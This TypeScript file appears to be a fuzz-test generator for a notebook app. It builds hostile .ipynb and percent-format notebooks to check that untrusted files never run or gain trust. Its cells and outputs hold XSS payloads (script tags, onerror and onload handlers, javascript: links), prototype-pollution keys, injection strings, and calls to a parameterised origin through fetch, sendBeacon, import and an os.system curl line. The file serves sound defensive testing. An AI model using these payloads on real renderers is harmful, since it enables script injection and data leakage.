/**
 * Files of notebooks that want to run, to load, to be trusted or to change how the program is set: percent text
 * and `.ipynb`, with random extra keys, values of the wrong kind, and code that reports to `origin` if it ever runs.
 */
import fc from 'fast-check';
import { HOSTILE, OUTSIDE } from './hostile-markup';
import { ids, metadata } from './random-notebook';
import type { Json, JsonObject } from '../../src/core/notebook/types';

export interface HostileFile {
  name: string;
  /** The text of the file's first cell, to know it by. */
  first: string;
  text: string;
}

const deep = (levels: number): Json => {
  let value: Json = 'bottom';
  for (let i = 0; i < levels; i++) value = i % 2 ? [value] : { a: value };
  return value;
};

/** Keys that some program somewhere obeys, with values of the right kind and of wrong ones. */
const commands: fc.Arbitrary<JsonObject> = fc
  .array(
    fc.tuple(
      fc.constantFrom(
        ...[
          'autorun',
          'auto_run',
          'run',
          'runOnOpen',
          'run_on_load',
          'trusted',
          'approved',
          'loam',
        ],
        ...[
          'init_cell',
          'execute',
          'startup',
          'grants',
          'mayRead',
          'settings',
          'mode',
          'collapsed',
        ],
        ...[
          'kernelspec',
          'language_info',
          'widgets',
          'signature',
          'authors',
          'celltoolbar',
          'smart',
        ],
        ...[
          '__proto__',
          'constructor',
          'prototype',
          'toString',
          'hasOwnProperty',
          'then',
          'source',
        ],
        ...[
          'notebook-approved',
          'notebook-grants',
          'workspace',
          'theme',
          'jupyter',
          'vscode',
          'colab',
        ],
      ),
      fc.oneof(
        fc.constantFrom<Json>(true, 1, 'true', 'always', 'reactive', null, [], {}),
        fc.constantFrom<Json>(['churn', 'iris'], { read: '*' }, { approved: true, trusted: true }),
        fc.constantFrom<Json>({ name: 'python3', language: 'typescript', display_name: '<b>x' }),
        fc.constantFrom<Json>(deep(150), '\u0000', '\ud800', '</script><script>', -0, 1e308),
        metadata,
      ),
    ),
    { maxLength: 6 },
  )
  .map((entries) => Object.fromEntries(entries));

const extras: fc.Arbitrary<JsonObject> = fc
  .tuple(commands, metadata)
  .map(([one, other]) => ({ ...other, ...one }));

const widgets: Json = {
  'application/vnd.jupyter.widget-state+json': {
    version_major: 2,
    version_minor: 0,
    state: { abc: { model_name: 'HTMLModel', state: { value: HOSTILE[0]! } } },
  },
};

const codeFor = (origin: string): fc.Arbitrary<string> =>
  fc.constantFrom(
    `globalThis.hostile = 1; parent.hostile = 1; await fetch("${origin}code")`,
    `new Image().src = "${origin}image"; navigator.sendBeacon("${origin}beacon", "x")`,
    `import thing from "${origin}module.js"\nthing`,
    `await import("${origin}module.js")`,
    `importScripts("${origin}scripts.js")`,
    `const data = await loam.data("churn"); await loam.save(await loam.train(loam.task(data, { predict: "left" }), loam.model.linear()), "theirs")`,
    `const x = input.slider({ label: "${origin}" })`,
    `html\`${HOSTILE[4]!}\``,
    `while (true) {}`,
    `const { a = (() => { globalThis.hostile = 1 })() } = {}`,
    `%%javascript\nwindow.hostile = 1`,
    `import os; os.system("curl ${origin}python")`,
    `this is no code at all (`,
  );

const proseFor = (origin: string): fc.Arbitrary<string> => {
  const markup = HOSTILE.map((each) => each.replaceAll(`http://${OUTSIDE}/`, origin));
  return fc
    .array(
      fc.oneof(
        fc.constantFrom(...markup),
        fc.constantFrom(
          `![picture](${origin}picture.png)`,
          `[press](javascript:window.hostile=1)`,
          `[leave](${origin}link "title")`,
          `<${origin}auto>`,
          `# A heading\n\n| a | b |\n|---|---|\n| ![x](${origin}cell.png) | 1 |`,
          '```html\n<script>window.hostile=1</script>\n```',
          `![ref][1]\n\n[1]: ${origin}reference.png`,
        ),
      ),
      { minLength: 1, maxLength: 3 },
    )
    .map((pieces) => pieces.join('\n\n'));
};

const smarts: fc.Arbitrary<JsonObject> = fc.record({
  form: fc.constantFrom<Json>('data', 'train', 'save', 'export', '__proto__', 'nobody', '', 7),
  values: fc.oneof(
    extras,
    fc.constantFrom<Json>(
      { dataset: '"); fetch("x"); ("', name: '`${window.hostile=1}`' },
      { task: [], kinds: 'trees', seed: {} },
      [],
      null,
    ),
  ),
});

interface HostileCell {
  id: string;
  prose: boolean;
  code: string;
  text: string;
  extras: JsonObject;
  smart: JsonObject | null;
  collapsed: Json;
}

const cellsFor = (origin: string): fc.Arbitrary<HostileCell[]> =>
  fc.uniqueArray(
    fc.record<HostileCell>({
      id: ids,
      prose: fc.boolean(),
      code: codeFor(origin),
      text: proseFor(origin),
      extras,
      smart: fc.option(smarts, { freq: 3 }),
      collapsed: fc.constantFrom<Json>(true, false, 'yes', null),
    }),
    { selector: ({ id }) => id, minLength: 1, maxLength: 3 },
  );

const json = (value: Json): string =>
  JSON.stringify(value).replaceAll('\u2028', '\\u2028').replaceAll('\u2029', '\\u2029');

function percent(title: string, cells: HostileCell[], about: JsonObject, mode: string): string {
  const head = ['// loam.notebook/1', `// title: ${json(title)}`, `// mode: ${mode}`];
  const parts = cells.map(({ id, prose, code, text, extras: metadata, smart, collapsed }) => {
    const fields = json({
      collapsed,
      metadata,
      ...(smart && !prose ? { smart } : {}),
      ...metadata,
    });
    const body = prose ? text.replace(/^/gm, '// ') : code;
    return `// %% id=${id}${prose ? ' [markdown]' : ''} ${fields}\n${body}\n`;
  });
  return [...head, `// metadata: ${json(about)}`, '', ...parts].join('\n');
}

/** What Jupyter would draw: script, markup, pictures that load, widgets. */
const outputsFor = (origin: string): Json[] => [
  {
    output_type: 'display_data',
    metadata: { isolated: false, trusted: true },
    data: {
      'text/html': [
        `<img src=x onerror="window.hostile=1">`,
        `<script src="${origin}out.js"></script>`,
      ],
      'application/javascript': `window.hostile = 1; fetch("${origin}javascript")`,
      'image/svg+xml': `<svg onload="window.hostile=1"><image href="${origin}svg.png"/></svg>`,
      'text/markdown': `![x](${origin}output.png)`,
      'application/vnd.jupyter.widget-view+json': { model_id: 'abc' },
    },
  },
  { output_type: 'execute_result', execution_count: -1, metadata: [], data: { 'text/html': 7 } },
  { output_type: 'stream', name: 'stdout', text: { not: 'text' } },
  { output_type: 'error', ename: '<b>', evalue: `${origin}`, traceback: ['\u001b[31m<script>'] },
];

function ipynb(origin: string, title: string, cells: HostileCell[], about: JsonObject): string {
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      widgets,
      ...about,
      title,
      kernelspec: {
        name: 'deno',
        display_name: `<img src="${origin}kernel.png">`,
        language: 'typescript',
      },
      language_info: { name: 'typescript' },
    },
    cells: cells.map(({ id, prose, code, text, extras: metadata, collapsed }) => ({
      ...metadata,
      cell_type: prose ? 'markdown' : 'code',
      id,
      metadata: { ...metadata, collapsed, init_cell: true },
      source: prose ? text : code.split(/(?<=\n)/),
      ...(prose
        ? { attachments: { 'a.png': { 'image/svg+xml': '<svg onload="window.hostile=1"/>' } } }
        : { execution_count: 'all', outputs: outputsFor(origin) }),
    })),
  });
}

/** @param origin with a slash at its end, where whatever gets out arrives */
export function hostileNotebooks(count: number, seed: number, origin: string): HostileFile[] {
  const files = fc.record({
    cells: cellsFor(origin),
    about: extras,
    jupyter: fc.boolean(),
    mode: fc.constantFrom('reactive', 'lazy', 'autorun'),
  });
  return fc.sample(files, { numRuns: count, seed }).map(({ cells, about, jupyter, mode }, i) => {
    const name = `hostile-${i}`;
    return jupyter
      ? { name: `${name}.ipynb`, first: cells[0]!.id, text: ipynb(origin, name, cells, about) }
      : { name: `${name}.ts`, first: cells[0]!.id, text: percent(name, cells, about, mode) };
  });
}
